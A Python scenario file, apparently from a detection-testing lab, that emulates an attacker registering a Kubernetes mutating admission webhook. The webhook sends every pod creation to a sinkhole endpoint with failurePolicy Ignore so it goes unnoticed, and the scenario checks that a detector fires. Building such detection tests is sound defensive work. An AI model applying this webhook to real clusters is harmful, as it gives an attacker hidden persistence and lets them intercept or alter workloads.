"""A new admission webhook that the API server consults for every pod it admits."""

from __future__ import annotations

from lab import Lab, WorkloadSpec
from scenarios.api import Expectation, Kind, Scenario


class AdmissionWebhook(Scenario):
    id = "kubernetes.tamper.admission-webhook"
    title = "Mutating admission webhook registered, pointing at an endpoint on the lab internet"
    kind = Kind.ADVERSARY
    techniques = ("T1562.001",)
    backends = ("kubernetes",)
    expect = Expectation(fires=("stowaway.k8s.admission-config-change",), within_s=20)
    tags = ("kubernetes", "persistence", "defense-evasion")
    description = (
        "Registers a MutatingWebhookConfiguration that sends every pod creation to an HTTPS endpoint "
        "on the lab internet (the sinkhole's port 443), with failurePolicy Ignore so the cluster "
        "keeps working and nobody notices. It then creates a pod and checks that the API server "
        "really called out to the endpoint (the sinkhole records the TLS connection)."
    )

    def detonate(self, lab: Lab) -> None:
        sink = lab.sinkhole.address
        webhook = {
            "apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
            "metadata": {"name": "pod-defaults"},
            "webhooks": [{
                "name": "pod-defaults.platform.example",
                "clientConfig": {"url": f"https://{sink}:443/mutate"},
                "rules": [{"operations": ["CREATE"], "apiGroups": [""], "apiVersions": ["v1"], "resources": ["pods"]}],
                "failurePolicy": "Ignore", "sideEffects": "None", "admissionReviewVersions": ["v1"],
                "timeoutSeconds": 2,
                "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "default"}},
            }],
        }
        lab.action("register a mutating admission webhook")
        lab.apply(webhook)
        before = len(lab.sinkhole_records())
        lab.deploy(WorkloadSpec(role="web", command=("sleep", "300")))
        lab.wait_for(lambda: any(r.get("port") == 443 for r in lab.sinkhole_records()[before:]), timeout=20,
                     what="the API server to call the webhook endpoint")
